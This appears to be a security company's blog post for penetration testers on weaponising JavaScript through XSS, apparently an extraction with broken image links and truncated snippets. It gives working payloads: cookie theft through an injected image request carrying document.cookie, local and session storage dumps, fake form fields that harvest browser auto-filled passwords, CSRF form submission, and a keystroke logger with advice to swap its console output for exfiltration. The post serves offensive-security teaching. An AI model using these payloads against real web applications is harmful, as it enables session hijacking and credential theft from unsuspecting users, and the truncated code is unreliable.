TCM Security is offering free Active Directory Health Checks to any company with 10 or more employees. To inquire, please contact us here.

JavaScript is a bit like Marmite, you either love it or hate it. Regardless of how it makes us feel, it is a powerful tool for attacking users and exploitation. Often, popping alert(1) is proof enough to get a fix but doesn’t demonstrate the full impact an attacker can have on a poorly defended web application.

Often when we think about attacking web applications, we are thinking about a company’s website or internet-facing service. Regardless of best practices and the claims made by security vendors, most organizations are significantly weaker internally – and that goes for web applications too. As a penetration tester or red teamer, being able to exploit internal web apps to attack specific highly-privileged users, or harvest re-used passwords from weak internal webapps might make the difference during your engagement. Let’s dive into how we can weaponise JavaScript to pull off some interesting attacks.

JavaScript APIs

When we write code, we often want to interact with external systems, such as web browsers, servers, or other software. JavaScript APIs provide the functionality to do just that. From manipulating the Document Object Model (DOM) to making network requests, the sky is the limit.

When we think about APIs, we should consider that they are typically organised into objects. These objects contain methods and properties that our code can access. When we want to pop an alert box, we’re actually using a methodthat is part of the window object. This object represents the browser window and provides access to a range of functionality.

Some other useful APIs are:

  • Fetch
  • WebRTC
  • WebSocket
  • XMLHttpRequest
  • Service Worker

Making requests

Something that is very handy when attacking users is the ability to make requests from their browsers. To begin with, it’s useful to be able to load external scripts as our initial payload may be quite small or limited in some way.

Making simple requests

let xhr = new XMLHttpRequest()

Stealing data

There are a few places to look when we want to steal data. These are

  • Cookies
  • LocalStorage
  • SessionStorage
  • Saved credentials/auto-fill

Stealing cookiesIn modern-day applications, the HttpOnly flag is often set. If it’s not, then stealing session cookies is fairly trivial. Less-protected internal applications are more likely to have this flag missing. We should consider the impact if we are able to steal session tokens for users on web applications that function in a similar way to Jenkins.

document.write('<img src="http://localhost?c='+document.cookie+'" />')

Local storage

Just like alert(), localStorage is part of the Window object that represents an open window in a browser. Data in here has no expiration and exists until deleted with a max size of 5mb. When we uncover an XSS vulnerability, local storage is easily accessible, and therefore the general advice is it’s not a safe place to store sensitive data (such as session tokens). But, from time to time, you’ll see this advice ignored.

let localStorageData = JSON.stringify(localStorage)

Once you have the data, you can choose a suitable method to exfiltrate.

Session storage

Data in session storage is cleared when a browser session ends (e.g. a user closes their tab).

let sessionStorageData = JSON.stringify(sessionStorage)

Saved credentials

An interesting feature of many browsers or password managers is that once credentials are saved for auto-fill later on, they are placed into any field that has the correct label within the web application. For example, if you save your username and password at login, and there happens to be a form field on the dashboard labelled as such, those fields will be auto-filled.

This drastically increases the attack surface forcredential theft, as any point in the application that is susceptible to XSS could be vulnerable to this attack. I should note, however, the behaviour of this type varies from browser to browser, and also on the individual configuration.

// create the input elements
let usernameField = document.createElement("input")
usernameField.type = "text"
usernameField.name = "username"
usernameField.id = "username"

let passwordField = document.createElement("input")
passwordField.type = "password"
passwordField.name = "password"
passwordField.id = "password"

// append the elements to the body of the page

// exfiltrate as needed (note that we need to wait for the fields to be filled before exfiltrating the information)
setTimeout(function() {
  console.log("Username:", document.getElementById("username").value)
  console.log("Password:", document.getElementById("password").value)
}, 1000);

CSRF & Session Riding

Submitting forms

If a form isn’t protected against CSRF attacks, then we can easily submit them on the user’s behalf. If updating the email address of an account isn’t protected with some out-of-band confirmation or MFA, we can sometimes use the updated email address to reset the user password and log in.

let xhr = newXMLHttpRequest();


There are many ways to log keystrokes, here we will look at some simple examples, but feel free to experiment with your target application.

document.onkeypress = function(e) {
  get = window.event ? event : e
  key = get.keyCode ? get.keyCode : get.charCode
  key = String.fromCharCode(key)

In this example, you can easily exchange console.log(key) with a call to exfiltrate the keys. Doing this on every key press might be a little noisy on the wire, so you can also considerdoing it at regular intervals.